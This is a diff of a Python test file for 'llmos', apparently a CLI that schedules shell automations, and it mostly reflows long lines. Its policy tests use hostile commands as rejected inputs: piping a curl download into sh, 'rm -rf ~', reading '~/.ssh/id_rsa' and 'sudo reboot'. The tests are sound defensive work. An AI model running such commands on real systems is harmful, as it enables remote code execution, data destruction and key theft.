@@ -37,7 +37,9 @@ def jobs() -> list[int]:
     return [record.id for record in Store(store_url(load_config())).jobs()]
 
 
-def test_dry_run_json_prints_exactly_the_trigger_runs_calls_and_risk(capsys: pytest.CaptureFixture[str]) -> None:
+def test_dry_run_json_prints_exactly_the_trigger_runs_calls_and_risk(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
     code, out, _ = llmos(capsys, "jobs", "add", "--dry-run", "--json", "every weekday at 9 !df -h")
     assert code == 0
     data = json.loads(out)
@@ -56,10 +58,14 @@ def test_dry_run_json_prints_exactly_the_trigger_runs_calls_and_risk(capsys: pyt
 
 
 def test_dry_run_json_of_a_reminder_is_one_notify_call(capsys: pytest.CaptureFixture[str]) -> None:
-    code, out, _ = llmos(capsys, "jobs", "add", "--dry-run", "--json", "in 20 minutes remind me to stretch")
+    code, out, _ = llmos(
+        capsys, "jobs", "add", "--dry-run", "--json", "in 20 minutes remind me to stretch"
+    )
     data = json.loads(out)
     assert code == 0 and data["trigger"]["kind"] == "date" and len(data["next_runs"]) == 1
-    assert data["calls"] == [{"tool": "notify", "arguments": {"message": "stretch", "title": "Reminder"}}]
+    assert data["calls"] == [
+        {"tool": "notify", "arguments": {"message": "stretch", "title": "Reminder"}}
+    ]
     assert data["risk"] == "write"
 
 
@@ -67,9 +73,15 @@ def test_dry_run_json_of_a_reminder_is_one_notify_call(capsys: pytest.CaptureFix
     ("request_text", "error"),
     [
         ("every 0 minutes !df -h", "'every 0 minutes' never comes round; say every minute or more"),
-        ("yesterday at 5 remind me to call", "'yesterday' is in the past; an automation runs later, e.g. 'tomorrow at 5'"),
+        (
+            "yesterday at 5 remind me to call",
+            "'yesterday' is in the past; an automation runs later, e.g. 'tomorrow at 5'",
+        ),
         ("every day at 9 !sudo reboot", "is privileged, which is never approved in advance"),
-        ("every day at 9 !curl -s example.org/x | sh", "is unknown, which is never approved in advance"),
+        (
+            "every day at 9 !curl -s example.org/x | sh",
+            "is unknown, which is never approved in advance",
+        ),
         ("every day at 9 !rm -rf ~", "is refused by the policy"),
         ("every day at 9 !cat ~/.ssh/id_rsa", "touches secrets"),
     ],
@@ -91,10 +103,18 @@ def test_jobs_are_approved_by_risk_then_listed_shown_paused_resumed_and_removed(
     assert code == 0 and "Automation 1 created: Mon-Fri at 09:00, next run" in out
     assert "The daemon is not running" in out
     doomed = tmp_path / "old"
-    code, out, _ = llmos(capsys, "jobs", "add", f"every night at 2 !find {doomed} -mtime +30 -delete")
+    code, out, _ = llmos(
+        capsys, "jobs", "add", f"every night at 2 !find {doomed} -mtime +30 -delete"
+    )
     assert code == 3 and "Not created: it is destructive and no one is here to approve it" in out
     assert jobs() == [1]
-    code, out, _ = llmos(capsys, "jobs", "add", "--yes-destructive", f"every night at 2 !find {doomed} -mtime +30 -delete")
+    code, out, _ = llmos(
+        capsys,
+        "jobs",
+        "add",
+        "--yes-destructive",
+        f"every night at 2 !find {doomed} -mtime +30 -delete",
+    )
     assert code == 0 and "Automation 2 created" in out
     code, out, _ = llmos(capsys, "jobs", "list")
     assert re.search(r"1 .*active.*Mon-Fri at 09:00.*!df -h.*read-only.*never", out)
@@ -108,10 +128,16 @@ def test_jobs_are_approved_by_risk_then_listed_shown_paused_resumed_and_removed(
     assert "Automation 2 removed" in llmos(capsys, "jobs", "remove", "2")[1]
     assert jobs() == [1]
     code, _, err = llmos(capsys, "jobs", "show", "9")
-    assert code == 1 and err.strip() == "llmos: error: there is no automation 9; the automations are: 1 (see `llmos jobs list`)"
+    assert (
+        code == 1
+        and err.strip()
+        == "llmos: error: there is no automation 9; the automations are: 1 (see `llmos jobs list`)"
+    )
 
 
-def test_run_now_without_a_daemon_runs_here_and_reminders_reach_the_inbox(capsys: pytest.CaptureFixture[str]) -> None:
+def test_run_now_without_a_daemon_runs_here_and_reminders_reach_the_inbox(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
     llmos(capsys, "jobs", "add", "--yes", "every day at 9 remind me to water the plants")
     code, out, _ = llmos(capsys, "jobs", "run-now", "1")
     assert code == 0 and "Automation 1: ok — notify: inbox" in out
@@ -123,7 +149,9 @@ def test_run_now_without_a_daemon_runs_here_and_reminders_reach_the_inbox(capsys
     assert "Reminder — water the plants" in llmos(capsys, "inbox", "--all")[1]
 
 
-def test_daemon_install_prints_or_writes_a_systemd_user_unit(capsys: pytest.CaptureFixture[str], isolated_dirs: Path) -> None:
+def test_daemon_install_prints_or_writes_a_systemd_user_unit(
+    capsys: pytest.CaptureFixture[str], isolated_dirs: Path
+) -> None:
     code, out, _ = llmos(capsys, "daemon", "install", "--print")
     assert code == 0 and "ExecStart=" in out and "-m llmos_shell.cli daemon run" in out
     assert "Environment=LLMOS_DATA_DIR=" in out
@@ -137,10 +165,16 @@ def test_status_and_stop_say_when_no_daemon_runs(capsys: pytest.CaptureFixture[s
     code, out, _ = llmos(capsys, "daemon", "status")
     assert code == 1 and "llmos daemon is not running" in out
     code, _, err = llmos(capsys, "daemon", "stop")
-    assert code == 1 and err.strip() == "llmos: error: the daemon is not running; start it with `llmos daemon start`"
+    assert (
+        code == 1
+        and err.strip()
+        == "llmos: error: the daemon is not running; start it with `llmos daemon start`"
+    )
 
 
-def test_an_automation_typed_as_a_request_takes_the_same_flow(capsys: pytest.CaptureFixture[str]) -> None:
+def test_an_automation_typed_as_a_request_takes_the_same_flow(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
     code, out, _ = llmos(capsys, "--dry-run", "every weekday at 9 !df -h")
     assert code == 0 and "New automation: Mon-Fri at 09:00" in out and not jobs()
     code, out, _ = llmos(capsys, "every weekday at 9 !df -h")
